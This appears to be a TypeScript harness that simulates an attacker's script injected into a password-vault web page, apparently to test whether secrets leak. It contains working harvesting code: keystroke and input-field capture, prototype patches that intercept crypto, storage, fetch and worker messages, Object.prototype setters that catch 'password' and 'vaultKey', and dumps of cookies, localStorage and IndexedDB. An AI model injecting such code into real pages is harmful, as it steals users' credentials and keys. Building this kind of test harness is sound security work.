/**
 * What an attacker's script runs in the app's page. Each function is sent there as text, so it stands on nothing outside itself
 * but `window.loot`, which the first one makes.
 */

export interface Kept {
  /** The attack that got it. */
  readonly from: string;
  readonly texts: readonly string[];
  readonly base64: readonly string[];
}

export interface Loot {
  /** Keeps every string and every piece of bytes that can be reached from a value. */
  readonly take: (from: string, value: unknown) => void;
  /** From now on whatever goes in and out of a function, and the bytes or text it is called on. */
  readonly tap: (from: string, holder: object | undefined, ...names: (string | symbol)[]) => void;
  readonly all: () => Kept[];
}

declare global {
  interface Window {
    loot: Loot;
  }
}

export function openLoot(): void {
  const kept = new Map<string, { texts: Set<string>; base64: Set<string>; size: number }>();
  const limit = 3_000_000;
  const longest = 200_000;
  const { apply, construct } = Reflect;
  // The collector's own work would pass through what it has tapped.
  let busy = false;
  const add = (from: string, kind: 'texts' | 'base64', text: string): void => {
    let one = kept.get(from);
    if (!one) kept.set(from, (one = { texts: new Set(), base64: new Set(), size: 0 }));
    if (text === '' || one.size > limit || one[kind].has(text)) return;
    one.size += text.length;
    one[kind].add(text);
  };
  const addBytes = (from: string, bytes: Uint8Array): void => {
    let binary = '';
    const end = Math.min(bytes.length, longest);
    for (let at = 0; at < end; at++) binary += String.fromCharCode(bytes[at] ?? 0);
    add(from, 'base64', btoa(binary));
  };
  const read = (object: object, name: string): unknown => {
    try {
      return (object as Record<string, unknown>)[name];
    } catch (error) {
      return error;
    }
  };
  const walk = (from: string, value: unknown, depth: number, seen: WeakSet<object>): void => {
    if (typeof value === 'string') add(from, 'texts', value.slice(0, longest));
    if (typeof value !== 'object' || value === null || depth > 5 || seen.has(value)) return;
    seen.add(value);
    const inner = (each: unknown): void => {
      walk(from, each, depth + 1, seen);
    };
    const later = (each: Promise<unknown>): void => {
      each.then(
        (got) => {
          window.loot.take(from, got);
        },
        () => undefined,
      );
    };
    if (value instanceof ArrayBuffer) addBytes(from, new Uint8Array(value));
    else if (ArrayBuffer.isView(value))
      addBytes(from, new Uint8Array(value.buffer, value.byteOffset, value.byteLength));
    else if (value instanceof Promise) later(value);
    else if (value instanceof Response) later(value.clone().text());
    else if (value instanceof Blob) later(value.arrayBuffer());
    else if (value instanceof Error || value instanceof DOMException) {
      inner(value.message);
      inner((value as Error).stack);
    } else if (value instanceof Node) {
      if (value instanceof Element) add(from, 'texts', value.outerHTML.slice(0, longest));
      if ('value' in value) inner(value.value);
      inner(value.textContent);
    } else if (value instanceof DataTransfer) {
      for (const type of value.types) inner(value.getData(type));
    } else if (value instanceof Map || value instanceof Set) inner([...value]);
    else if (Array.isArray(value) && value.every((each) => typeof each === 'number')) {
      add(from, 'texts', value.slice(0, longest).join());
    } else if (!(value instanceof Window)) {
      let count = 0;
      for (const name in value) {
        if (++count > 200) break;
        add(from, 'texts', name);
        inner(read(value, name));
      }
    }
  };
  window.loot = {
    take(from, value) {
      if (busy) return;
      busy = true;
      try {
        walk(from, value, 0, new WeakSet());
      } catch {
        // A window of another origin, which answers every question with an error.
      } finally {
        busy = false;
      }
    },
    tap(from, holder, ...names) {
      for (const name of names) {
        const original = (holder as Record<string | symbol, unknown> | undefined)?.[name];
        if (!holder || typeof original !== 'function') continue;
        const seen = <T>(args: unknown[], go: () => T): T => {
          window.loot.take(from, args);
          const result = go();
          window.loot.take(from, result);
          return result;
        };
        const tapped = new Proxy(original, {
          apply: (target, self: unknown, args: unknown[]) => {
            if (ArrayBuffer.isView(self) || typeof self === 'string') window.loot.take(from, self);
            return seen(args, () => apply(target as () => unknown, self, args) as unknown);
          },
          construct: (target, args: unknown[], maker) =>
            seen(args, () => construct(target, args, maker) as object),
        });
        Object.defineProperty(holder, name, { value: tapped, configurable: true, writable: true });
      }
    },
    all: () => {
      busy = true;
      try {
        return [...kept].map(([from, { texts, base64 }]) => ({
          from,
          texts: [...texts],
          base64: [...base64],
        }));
      } finally {
        busy = false;
      }
    },
  };
}

/** Patches whatever a vault might call. */
export function tapGlobals(): void {
  const { take, tap } = window.loot;
  tap('patched TextEncoder and String', TextEncoder.prototype, 'encode', 'encodeInto');
  tap('patched TextEncoder and String', TextDecoder.prototype, 'decode');
  tap('patched TextEncoder and String', String.prototype, 'normalize', 'split', 'charCodeAt');
  tap('patched typed arrays', Uint8Array.prototype, 'fill', 'set', 'slice', 'subarray', 'at');
  tap('patched workers and ports', window, 'Worker', 'SharedWorker');
  tap('patched workers and ports', Worker.prototype, 'postMessage');
  tap('patched workers and ports', MessagePort.prototype, 'postMessage');
  tap('patched workers and ports', window, 'structuredClone');
  tap('patched crypto', Crypto.prototype, 'getRandomValues', 'randomUUID');
  tap('patched crypto', globalThis.SubtleCrypto.prototype, 'importKey', 'exportKey', 'deriveBits', 'digest');
  tap('patched crypto', globalThis.SubtleCrypto.prototype, 'encrypt', 'decrypt', 'sign', 'wrapKey');
  tap('patched fetch', window, 'fetch', 'XMLHttpRequest', 'Headers', 'Request');
  tap('patched JSON', JSON, 'stringify', 'parse');
  tap('patched storage', IDBObjectStore.prototype, 'put', 'add', 'get', 'getAll');
  tap('patched storage', Storage.prototype, 'setItem', 'getItem');
  tap('patched WebAssembly', WebAssembly, 'compile', 'instantiate', 'Memory', 'Instance');
  tap('patched elements', Element.prototype, 'attachShadow', 'setAttribute', 'append', 'replaceChildren');
  tap('patched elements', CustomElementRegistry.prototype, 'define');
  tap('patched elements', Document.prototype, 'createElement');
  tap('patched elements', CustomEvent.prototype, 'initCustomEvent');
  tap('patched elements', window, 'CustomEvent');
  tap('patched prototypes', Map.prototype, 'get', 'set');
  tap('patched prototypes', Array.prototype, 'push', 'map', Symbol.iterator);
  tap('patched prototypes', Reflect, 'apply', 'construct');
  tap('patched prototypes', Object, 'assign', 'entries', 'values', 'freeze');
  tap('patched prototypes', Promise, 'resolve', 'all', 'race');

  for (const prototype of [MessagePort.prototype, Worker.prototype]) {
    const own = Object.getOwnPropertyDescriptor(prototype, 'onmessage');
    Object.defineProperty(prototype, 'onmessage', {
      ...own,
      set(this: EventTarget, listener: unknown) {
        this.addEventListener('message', (event) => {
          take('patched workers and ports', (event as MessageEvent).data);
        });
        own?.set?.call(this, listener);
      },
    });
  }
  const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    ...value,
    get(this: HTMLInputElement) {
      const text: unknown = value?.get?.call(this);
      take('the fields', text);
      return text;
    },
  });
  // A property that is set on any object that has none of that name.
  for (const name of ['password', 'secret', 'key', 'kek', 'vaultKey', 'args', 'result', 'data', 'meta']) {
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => undefined,
      set(this: object, given: unknown) {
        take('patched prototypes', given);
        Object.defineProperty(this, name, {
          value: given,
          configurable: true,
          enumerable: true,
          writable: true,
        });
      },
    });
  }
}

/** Listens to everything that a page can listen to, before anyone else. */
export function listenToAll(): void {
  const { take } = window.loot;
  let typed = '';
  const keys = ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'textInput', 'compositionupdate'];
  const others = [
    ...['paste', 'copy', 'cut', 'beforepaste', 'selectionchange', 'selectstart', 'change', 'submit'],
    ...['dragstart', 'drag', 'dragenter', 'dragover', 'drop', 'dragend', 'contextmenu', 'focusin', 'blur'],
    ...['pointerdown', 'pointerup', 'pointermove', 'pointerrawupdate', 'gotpointercapture', 'click', 'wheel'],
    ...['message', 'messageerror', 'error', 'unhandledrejection', 'rejectionhandled'],
    ...['securitypolicyviolation', 'beforeprint', 'afterprint', 'storage', 'pagehide', 'pageshow'],
    ...['popstate', 'hashchange', 'visibilitychange', 'resize', 'toggle', 'load', 'animationstart'],
  ];
  for (const name of [...keys, ...others]) {
    const hear = (event: Event): void => {
      if (event instanceof KeyboardEvent && name === 'keydown' && event.key.length === 1) typed += event.key;
      if (keys.includes(name)) take('key events', [typed, event]);
      else take('other events', { name, event });
      const target = event.composedPath()[0];
      if (target instanceof HTMLInputElement) take('the fields', target.value);
    };
    window.addEventListener(name, hear, { capture: true });
    if (/^(error|unhandled|rejection|message)/.test(name)) window.addEventListener(name, hear);
  }
  for (const type of PerformanceObserver.supportedEntryTypes) {
    new PerformanceObserver((list) => {
      take(
        'performance entries',
        list.getEntries().map((entry) => JSON.stringify(entry)),
      );
    }).observe({ type, buffered: true, durationThreshold: 16 } as PerformanceObserverInit);
  }
  const { ReportingObserver } = window as unknown as {
    ReportingObserver: new (hear: (reports: unknown) => void) => { observe(): void };
  };
  new ReportingObserver((reports) => {
    take('other events', reports);
  }).observe();
}

/** Looks at the page as it stands: its text, its fields, and whatever is stored for it. */
export async function lookAround(): Promise<void> {
  const { take } = window.loot;
  take('the page’s text', document.documentElement);
  const roots: ParentNode[] = [document];
  for (const element of document.querySelectorAll('*'))
    if (element.shadowRoot) roots.push(element.shadowRoot);
  for (const root of roots) {
    take('the page’s text', [...root.children]);
    for (const field of root.querySelectorAll('input')) take('the fields', field.value);
  }
  take('the page’s text', [document.title, document.cookie, location.href, document.referrer]);
  take('the page’s text', history.state);
  take('stored data', [localStorage, sessionStorage]);
  const done = <T>(request: IDBRequest<T>): Promise<T> =>
    new Promise((resolve, reject) => {
      request.onsuccess = () => {
        resolve(request.result);
      };
      request.onerror = () => {
        reject(new Error(request.error?.name));
      };
    });
  for (const { name = '' } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      take('stored data', await done(database.transaction(store).objectStore(store).getAll()));
    }
    database.close();
  }
  for (const name of await caches.keys()) take('stored data', name);
  take('stored data', await navigator.locks.query());
}
